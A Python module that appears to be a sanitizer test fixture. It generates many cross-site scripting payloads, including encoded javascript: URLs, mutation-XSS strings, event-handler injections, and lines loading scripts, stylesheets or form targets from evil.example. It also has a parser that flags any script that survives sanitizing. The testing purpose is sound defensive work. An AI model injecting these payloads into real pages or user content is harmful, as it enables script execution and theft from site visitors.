"""Hostile inputs of our own making, and how to tell that one got through: by parsing what came out."""

import re
from html.parser import HTMLParser

ATTRIBUTES = [
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerdown"),
    *(
        "onbeforetoggle",
        "onscrollend",
        "oncontentvisibilityautostatechange",
        "onwebkitplaybacktargetavailabilitychanged",
    ),
]
HOSTS = [
    *("img src=x", "svg", "body", "input autofocus", "details open", "video", "a href=#", "iframe", "p", "math"),
    *("audio src=x", "select autofocus", "marquee", "div popover"),
]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&#x0A;script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:/*--></title></style></script><svg onload=alert(1)>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "intent://evil.example#Intent;scheme=http;end",
]
# What an address may stand in.
CARRIERS = [
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<video poster="{0}" src="{0}"></video>',
    '<iframe src="{}"></iframe>',
    '<img srcset="{} 2x">',
    "[x]({})",
    "![x]({})",
    '[x]: {} "t"\n\n[x]',
]
BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=a><button>x</button></form>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img src=x:x onerror=alert(1)//",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% load static %}{% csrf_token %}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnirts\u202c<script>alert(1)</script>",
    "« <img src=x onerror=alert(1)> » : ! ? ;",
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1) 'title')",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    'https://example.org/"onmouseover=alert(1)//',
    "http://example.org/<script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
]
# What was written around a payload may be what lets it out.
AROUND = [
    '<p title="{}">x</p>',
    "<!-- {} -->",
    "```\n{}\n```",
    "> {}\n> — quelqu’un",
    "<table><tr><td>{}</table>",
]
PAYLOADS = list(
    dict.fromkeys(
        [
            *BASE,
            *(f"<{host} {attribute}=alert(1)>x" for host in HOSTS for attribute in ATTRIBUTES),
            *(carrier.format(scheme) for carrier in CARRIERS for scheme in SCHEMES),
            *(around.replace("{}", payload) for around in AROUND for payload in BASE),
        ]
    )
)
BAD_TAGS = {"script", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "svg", "math", "template"}
ADDRESSES = {"href", "src", "cite", "action", "formaction", "srcset", "data"}
SAFE = {"http", "https", "mailto", ""}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.I)


def scheme_of(address: str) -> str:
    """As browsers find it (URL Standard, 4.4): without what they strip; "" for an address within the site."""
    stripped = re.sub(r"[\t\n\r]", "", address.lstrip("".join(map(chr, range(33)))))
    found = SCHEME.match(stripped)
    return found[1].lower() if found else ""


class Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad = []

    def handle_starttag(self, tag, attrs):
        if tag in BAD_TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.bad.append(name)
            if name in ADDRESSES and scheme_of(value) not in SAFE:
                self.bad.append(f"{name}={value}")

    handle_startendtag = handle_starttag


def holds_script(html: str) -> list[str]:
    """What in some HTML could run or lead astray; empty where nothing does."""
    finder = Finder()
    finder.feed(html)
    finder.close()
    return finder.bad
